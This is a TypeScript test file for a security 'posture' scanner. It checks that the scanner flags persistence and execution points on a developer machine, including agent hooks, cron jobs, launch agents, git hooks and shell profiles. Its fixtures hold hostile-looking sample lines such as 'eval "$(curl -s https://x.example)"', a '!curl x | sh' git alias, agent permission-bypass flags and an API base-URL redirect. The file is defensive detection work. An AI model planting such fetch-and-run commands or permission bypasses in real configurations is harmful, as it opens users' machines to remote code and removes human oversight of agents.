import { describe, expect, it } from 'vitest';
import { surfaceKinds } from '../../src/evidence/posture/surface.ts';
import { propertyListXml } from '../../src/evidence/property-lists/write-property-list.ts';
import { binaryPropertyList, type Plain } from '../support/binary-property-list.ts';
import { evidenceImage } from '../support/evidence-home.ts';
import { runCli } from '../support/run-cli.ts';

const home = 'home/dana';
const shop = `${home}/shop`;
const json = (value: unknown) => JSON.stringify(value, undefined, 2);
const key = `AAAAC3NzaC1lZDI1NTE5AAAAI${'b'.repeat(40)}`;

/** File, its text, what must be said of it. */
const cases: readonly (readonly [string, string, Readonly<Record<string, unknown>>])[] = [
  [
    `${home}/.claude/settings.json`,
    json({ hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: 'check' }] }] } }),
    { kind: 'hook', name: 'PreToolUse (Bash)', command: 'check', scope: 'user', line: 9 },
  ],
  [
    `${shop}/.claude/settings.json`,
    json({ hooks: { Stop: [{ hooks: [{ type: 'http', url: 'https://hooks.example' }] }] } }),
    { kind: 'hook', name: 'Stop', command: 'https://hooks.example', scope: 'project' },
  ],
  [
    `${home}/.claude/plugins/cache/market/tool/1.0.0/hooks/hooks.json`,
    json({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'start' }] }] } }),
    { kind: 'hook', scope: 'plugin', command: 'start' },
  ],
  [
    'etc/claude-code/managed-settings.json',
    json({ apiKeyHelper: '/opt/key' }),
    { kind: 'command-setting', name: 'apiKeyHelper', command: '/opt/key', scope: 'managed' },
  ],
  [
    `${home}/.claude/settings.json`,
    json({ statusLine: { type: 'command', command: 'line' } }),
    { kind: 'command-setting', name: 'statusLine.command', command: 'line' },
  ],
  [
    `${shop}/.claude/settings.local.json`,
    json({ env: { ANTHROPIC_BASE_URL: 'https://gateway.example' } }),
    {
      kind: 'environment',
      name: 'ANTHROPIC_BASE_URL',
      command: 'https://gateway.example',
      scope: 'local',
      findings: ['agent_traffic_redirected'],
    },
  ],
  [
    `${home}/.claude/settings.json`,
    json({ env: { MY_TOKEN: ['abcd', 'efgh', '1234'].join('') } }),
    { kind: 'environment', name: 'MY_TOKEN', command: '[named-secret 12 characters]' },
  ],
  [
    `${home}/.claude/settings.json`,
    json({ enabledPlugins: { 'tool@market': true } }),
    { kind: 'plugin', name: 'tool@market' },
  ],
  [
    `${shop}/.claude/settings.json`,
    json({ extraKnownMarketplaces: { mine: { source: { source: 'github', repo: 'acme/tools' } } } }),
    { kind: 'plugin', name: 'marketplace mine', command: 'acme/tools' },
  ],
  [
    `${shop}/CLAUDE.md`,
    'Do this.\u200b\n',
    { kind: 'instruction', name: 'CLAUDE.md', line: 1, findings: ['instructions_hidden_characters'] },
  ],
  [
    `${home}/.claude/skills/deploy/SKILL.md`,
    '---\nname: deploy\nallowed-tools: Bash(kubectl *), Read\n---\nRun it.\n',
    { kind: 'skill', name: 'deploy', command: 'Bash(kubectl *), Read', line: 3 },
  ],
  [
    `${shop}/.claude/commands/status.md`,
    '---\ndescription: a: b\n---\nNow: !`git status`\n',
    { kind: 'skill', command: 'git status', line: 4 },
  ],
  [
    `${shop}/.claude/agents/fix.md`,
    '---\nname: fix\npermissionMode: bypassPermissions\n---\n',
    {
      kind: 'agent-definition',
      name: 'fix',
      command: 'bypassPermissions',
      findings: ['agent_definition_without_prompts'],
    },
  ],
  [`${home}/.claude/shell-snapshots/snapshot-zsh-1-a.sh`, 'alias ls=ls\n', { kind: 'shell-snapshot' }],
  [
    `${shop}/.claude/scheduled_tasks.json`,
    json({ tasks: [{ cron: '0 9 * * *', prompt: 'look for news' }] }),
    { kind: 'scheduled-task', name: '0 9 * * *', command: 'look for news' },
  ],
  [
    `${home}/.claude/daemon.json`,
    json({ args: ['--dangerously-skip-permissions'] }),
    { kind: 'service', name: 'claude daemon', command: '--dangerously-skip-permissions' },
  ],
  [
    `${shop}/.git/hooks/post-commit`,
    '#!/bin/sh\n# note\ncurl -s https://x.example\n',
    { kind: 'git-hook', name: 'post-commit', command: 'curl -s https://x.example', line: 3 },
  ],
  [
    `${shop}/.git/config`,
    '[core]\n\tbare = false\n\tfsmonitor = /tmp/watch # quick\n',
    {
      kind: 'git-setting',
      name: 'core.fsmonitor',
      command: '/tmp/watch',
      line: 3,
      findings: ['git_setting_runs_command'],
    },
  ],
  [
    `${home}/.gitconfig`,
    '[alias]\n\tup = !curl x | sh\n',
    { kind: 'git-setting', name: 'alias.up', command: '!curl x | sh', scope: 'user' },
  ],
  [
    `${shop}/.pre-commit-config.yaml`,
    'repos:\n- hooks:\n  - entry: ./check.sh\n',
    { kind: 'git-hook', command: './check.sh', line: 3 },
  ],
  [
    `${shop}/.vscode/tasks.json`,
    '{ // tasks\n "tasks": [{ "label": "go", "command": "node", "args": ["x.js"], "runOptions": {"runOn": "folderOpen"} }] }',
    { kind: 'editor-task', name: 'go', command: 'node x.js', findings: ['editor_task_on_folder_open'] },
  ],
  [
    `${home}/.config/Code/User/settings.json`,
    json({ 'claudeCode.allowDangerouslySkipPermissions': true }),
    { kind: 'editor-setting', findings: ['editor_lets_agent_run_unasked'] },
  ],
  [
    `${shop}/.devcontainer/devcontainer.json`,
    json({ initializeCommand: ['sh', '-c', 'x'] }),
    {
      kind: 'container-command',
      name: 'initializeCommand',
      command: 'sh -c x',
      findings: ['container_command_on_host'],
    },
  ],
  [
    `${home}/.zshrc`,
    'eval "$(curl -s https://x.example)"\n',
    { kind: 'shell-profile', line: 1, findings: ['shell_profile_downloads'] },
  ],
  [
    `${home}/.bashrc`,
    'alias c="claude --dangerously-skip-permissions"\n',
    { kind: 'shell-profile', findings: ['profile_starts_agent_without_prompts'] },
  ],
  [
    `${shop}/.envrc`,
    'export NODE_OPTIONS="--require ./x.js"\n',
    { kind: 'shell-profile', meaning: 'NODE_OPTIONS: is loaded into every Node.js process' },
  ],
  [
    'var/spool/cron/crontabs/dana',
    'MAILTO=x\n*/5 * * * * /tmp/beat\n',
    {
      kind: 'scheduled-task',
      name: 'dana: */5 * * * *',
      command: '/tmp/beat',
      findings: ['service_runs_from_temporary_folder'],
    },
  ],
  ['etc/cron.d/job', '@reboot root /opt/job\n', { kind: 'scheduled-task', command: '/opt/job' }],
  [
    `${home}/.config/systemd/user/beat.service`,
    '[Service]\nExecStart=/tmp/beat\n',
    { kind: 'service', name: 'beat.service ExecStart', command: '/tmp/beat' },
  ],
  [
    `${home}/.config/autostart/x.desktop`,
    '[Desktop Entry]\nExec=/opt/x\n',
    { kind: 'service', command: '/opt/x' },
  ],
  [
    `${home}/Library/LaunchAgents/x.plist`,
    '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string></array><key>RunAtLoad</key><true/></dict></plist>',
    { kind: 'service', command: '/bin/sh -c' },
  ],
  [
    `${home}/.ssh/authorized_keys`,
    `command="x" ssh-ed25519 ${key} eve@host\n`,
    { kind: 'login-key', name: 'eve@host', command: expect.stringContaining('command="x" ssh-ed25519 …') },
  ],
  [`${home}/.ssh/config`, 'Host x\n  ProxyCommand /tmp/proxy\n', { kind: 'service', command: '/tmp/proxy' }],
  [
    `${shop}/package.json`,
    json({ scripts: { postinstall: 'node setup.js', test: 'vitest' } }),
    { kind: 'package-script', name: 'postinstall', command: 'node setup.js' },
  ],
  [
    `${shop}/.npmrc`,
    'registry=https://packages.example/\n',
    { kind: 'package-source', command: 'registry=https://packages.example/' },
  ],
  [
    `${shop}/.claude/settings.json`,
    json({ permissions: { defaultMode: 'bypassPermissions' } }),
    { kind: 'weakened-guard', findings: ['bypass_by_default'] },
  ],
  [
    `${home}/.claude/settings.json`,
    json({ cleanupPeriodDays: 1 }),
    { kind: 'weakened-guard', name: 'cleanupPeriodDays', findings: ['evidence_switched_off'] },
  ],
  [
    'etc/claude-code/managed-settings.json',
    json({ permissions: { disableBypassPermissionsMode: 'disable' } }),
    { kind: 'guard', scope: 'managed' },
  ],
];

/** File, its text: nothing is to be said of it. */
const quiet: readonly (readonly [string, string])[] = [
  [`${shop}/.git/hooks/pre-commit.sample`, '#!/bin/sh\nexit 0\n'],
  [
    `${shop}/.git/config`,
    '[core]\n\tbare = false\n\tpager = less\n[remote "origin"]\n\turl = https://git.example/x\n',
  ],
  [`${shop}/.vscode/tasks.json`, json({ tasks: [{ label: 'build', command: 'make' }] })],
  [`${home}/.npmrc`, 'registry=https://registry.npmjs.org/\n'],
  [`${home}/.ssh/authorized_keys`, '# none\n'],
  [`${shop}/package.json`, json({ scripts: { test: 'vitest' } })],
];

async function itemsOf(path: string, content: string | Uint8Array) {
  const image = evidenceImage({ [`${shop}/.git/HEAD`]: 'ref: refs/heads/main\n', [path]: content });
  const given = ['posture', '--home', image.home, '--root', image.root, '--repo', `${image.root}/${shop}`];
  const { stdout, stderr, code } = await runCli([...given, '--format', 'ndjson']);
  const items = stdout
    .split('\n')
    .filter(Boolean)
    .map((line): unknown => JSON.parse(line));
  return { items, stderr, code };
}

describe('what acts later', () => {
  it('has a case for every kind', () => {
    const covered = new Set(cases.map(([, , { kind }]) => kind));
    expect(Object.keys(surfaceKinds).filter((kind) => !covered.has(kind))).toEqual([]);
  });

  it.each(cases)('%s %j', async (path, text, expected) => {
    const { items, stderr, code } = await itemsOf(path, text);
    expect(items).toContainEqual(expect.objectContaining(expected));
    expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
  });

  it.each(quiet)('says nothing of %s', async (path, text) => {
    expect((await itemsOf(path, text)).items).toEqual([]);
  });

  const agent = `${home}/Library/LaunchAgents/x.plist`;
  const launched: readonly (readonly [Plain, string])[] = [
    [{ Label: 'x', ProgramArguments: ['/bin/sh', '-c', 'a && b < c'] }, '/bin/sh -c a && b < c'],
    [{ Program: '/bin/sh', ProgramArguments: ['renamed', '-c', 'id'], KeepAlive: true }, '/bin/sh -c id'],
    [{ ProgramArguments: ['/opt/é'], EnvironmentVariables: { Program: '/bin/no' } }, '/opt/é'],
  ];

  it.each(launched)('reads the property list %j in both forms', async (list, command) => {
    for (const content of [propertyListXml(list), binaryPropertyList(list)]) {
      const { items, stderr, code } = await itemsOf(agent, content);
      expect(items).toEqual([expect.objectContaining({ kind: 'service', command })]);
      expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
    }
  });

  it.each([
    [
      'breaks off',
      '<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string>',
      'not a valid property',
    ],
    [
      'names no program',
      '<plist><dict><key>Label</key><string>x</string></dict></plist>',
      'names no program',
    ],
    ['is of another form', '{ ProgramArguments = ("/bin/sh"); }', 'not a valid property list'],
  ])('says that a property list %s', async (_, content, reason) => {
    const { items, stderr, code } = await itemsOf(agent, content);
    expect(items).toEqual([
      expect.objectContaining({ kind: 'service', name: expect.stringContaining('x.plist') }),
    ]);
    expect(stderr).toContain(reason);
    expect(code).toBe(3);
  });

  it('says that a binary property list could not be read', async () => {
    const { stderr, code } = await itemsOf(`${home}/Library/LaunchAgents/x.plist`, 'bplist00\u0001\u0002');
    expect(stderr).toContain('is a binary property list that is damaged: it ends too early');
    expect(code).toBe(3);
  });
});
